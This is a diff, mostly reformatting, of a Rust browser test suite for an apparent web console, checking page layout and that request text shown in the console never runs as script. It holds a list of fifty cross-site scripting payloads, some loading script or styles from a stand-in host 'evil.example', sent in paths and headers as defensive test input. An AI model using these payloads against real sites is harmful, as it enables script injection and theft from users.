@@ -1,6 +1,12 @@
 //! Every page in a browser: light and dark, on a phone and on a wide screen, and with hostile text.
 
-use crate::{browser::Browser, fixture::{Fixture, Keys}, live::Origin, operate::folder, tls_site};
+use crate::{
+    browser::Browser,
+    fixture::{Fixture, Keys},
+    live::Origin,
+    operate::folder,
+    tls_site,
+};
 use saker_testkit::{Client, PATIENCE};
 use std::path::Path;
 
@@ -47,7 +53,13 @@ fn pages_fit_every_screen_without_errors() {
     );
     let dir = folder("console-pages");
     tls_site::certificate(&dir, "site", "shop.example");
-    let fixture = Fixture::start_in(dir, &Keys { site: &site, ..Keys::default() });
+    let fixture = Fixture::start_in(
+        dir,
+        &Keys {
+            site: &site,
+            ..Keys::default()
+        },
+    );
     let mut client = fixture.saker.connect().unwrap();
     client.get("/page/1").unwrap();
     let base = format!("http://{}", fixture.console);
@@ -55,11 +67,31 @@ fn pages_fit_every_screen_without_errors() {
     let link = format!("{base}/link?token={}", fixture.link());
     let pages = [
         ("login", "/login", ""),
-        ("now", "/", "document.body.dataset.live === 'yes' && document.querySelectorAll('.uplot').length === 8 && document.querySelector('#certificates td') && document.querySelector('[data-figure=requests]').textContent !== '–'"),
-        ("requests", "/requests?status=4", "document.body.dataset.live === 'yes'"),
-        ("why", "/requests/why?url=/missing&header=Accept:%20text/html", "document.querySelectorAll('.steps tr').length > 3"),
-        ("cache", "/cache?url=/page/1&site=localhost", "document.querySelector('table')"),
-        ("configuration", "/configuration", "document.querySelector('.editor').value.includes('[console]')"),
+        (
+            "now",
+            "/",
+            "document.body.dataset.live === 'yes' && document.querySelectorAll('.uplot').length === 8 && document.querySelector('#certificates td') && document.querySelector('[data-figure=requests]').textContent !== '–'",
+        ),
+        (
+            "requests",
+            "/requests?status=4",
+            "document.body.dataset.live === 'yes'",
+        ),
+        (
+            "why",
+            "/requests/why?url=/missing&header=Accept:%20text/html",
+            "document.querySelectorAll('.steps tr').length > 3",
+        ),
+        (
+            "cache",
+            "/cache?url=http://localhost/page/1",
+            "document.querySelector('.card') && document.querySelector('table')",
+        ),
+        (
+            "configuration",
+            "/configuration",
+            "document.querySelector('.editor').value.includes('[console]')",
+        ),
         ("audit", "/audit", "document.querySelector('table')"),
     ];
     browser.look(1440, false);
@@ -75,7 +107,10 @@ fn pages_fit_every_screen_without_errors() {
             }
             let place = format!("{name}-{width}-{}", if is_dark { "dark" } else { "light" });
             let overflow = browser.evaluate("document.documentElement.scrollWidth - innerWidth");
-            assert!(overflow.as_f64().unwrap() <= 0.0, "{place}: {overflow} too wide");
+            assert!(
+                overflow.as_f64().unwrap() <= 0.0,
+                "{place}: {overflow} too wide"
+            );
             let shifts = browser.evaluate(SHIFTS).as_f64().unwrap();
             assert!(shifts < 0.1, "{place}: layout shifts of {shifts}");
             let inaccessible = browser.evaluate(INACCESSIBLE);
@@ -95,22 +130,56 @@ fn pages_fit_every_screen_without_errors() {
 
 /// Payloads of cross-site scripting, for HTML, attributes, URLs, scripts, styles, and templates.
 const PAYLOADS: [&str; 50] = [
-    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "<script src=//evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
-    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "\"><svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mi//xlink:href=\"javascript:alert(1)\">",
-    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
-    "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\" autofocus onfocus=alert(1) x=\"",
-    "` onmouseover=alert(1)", "\"-alert(1)-\"", "'-alert(1)-'", "';alert(1)//", "\\\";alert(1)//",
-    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
-    "</td></tr></table><script>alert(1)</script>", "-->\"><script>alert(1)</script>", "]]><script>alert(1)</script>",
-    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
-    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>", "<form action=javascript:alert(1)><button>x", "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
-    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "\"><svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mi//xlink:href=\"javascript:alert(1)\">",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<a href=javascript:alert(1)>x</a>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "\" onmouseover=alert(1) x=\"",
+    "' onmouseover=alert(1) x='",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "` onmouseover=alert(1)",
+    "\"-alert(1)-\"",
+    "'-alert(1)-'",
+    "';alert(1)//",
+    "\\\";alert(1)//",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</td></tr></table><script>alert(1)</script>",
+    "-->\"><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "#{alert(1)}",
+    "<%= alert(1) %>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<form action=javascript:alert(1)><button>x",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
 ];
 
 #[test]
@@ -133,14 +202,18 @@ fn text_of_requests_runs_nowhere() {
                 ("/agent".to_owned(), *payload, "b"),
                 ("/referrer".to_owned(), "a", *payload),
             ] {
-                let head = format!("GET {target} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {agent}\r\nReferer: {referrer}\r\nConnection: close\r\n\r\n");
+                let head = format!(
+                    "GET {target} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {agent}\r\nReferer: {referrer}\r\nConnection: close\r\n\r\n"
+                );
                 let mut client = Client::connect(fixture.saker.server.address()).unwrap();
                 client.send(head).unwrap();
                 client.read_to_close(PATIENCE).unwrap();
                 sent += 1;
             }
         }
-        browser.wait_for(&format!("document.querySelectorAll('#tail tbody tr').length === {sent}"));
+        browser.wait_for(&format!(
+            "document.querySelectorAll('#tail tbody tr').length === {sent}"
+        ));
     }
     assert_eq!(sent, 200);
     let check = "(() => { const all = [...document.querySelectorAll('#tail tbody *')]; \
@@ -150,13 +223,16 @@ fn text_of_requests_runs_nowhere() {
     assert_eq!(browser.evaluate(check), 0);
     assert_eq!(browser.problems(), [""; 0]);
     // Each explanation shows the same text, in a page of its own.
-    let links = browser.evaluate("[...document.querySelectorAll('#tail a')].map((a) => a.pathname + a.search)");
+    let links = browser
+        .evaluate("[...document.querySelectorAll('#tail a')].map((a) => a.pathname + a.search)");
     let cookie = fixture.administrator();
     let mut shown = 0;
     for link in links.as_array().unwrap() {
         let page = fixture.page(link.as_str().unwrap(), &cookie).text();
         assert_eq!(page.matches("<script").count(), 1, "{link}");
-        for tag in ["<img", "<svg", "<iframe", "<math", "<object", "<embed", "<base", "<video", "<audio"] {
+        for tag in [
+            "<img", "<svg", "<iframe", "<math", "<object", "<embed", "<base", "<video", "<audio",
+        ] {
             assert!(!page.contains(tag), "{link}: {tag}");
         }
         shown += usize::from(page.contains("alert(1)") || page.contains("evil.example"));
@@ -167,5 +243,8 @@ fn text_of_requests_runs_nowhere() {
     }
     let notes = browser.problems();
     // A request that cannot be explained is a 400, which browsers report.
-    assert!(notes.iter().all(|note| note.contains("status of 400")), "{notes:?}");
+    assert!(
+        notes.iter().all(|note| note.contains("status of 400")),
+        "{notes:?}"
+    );
 }
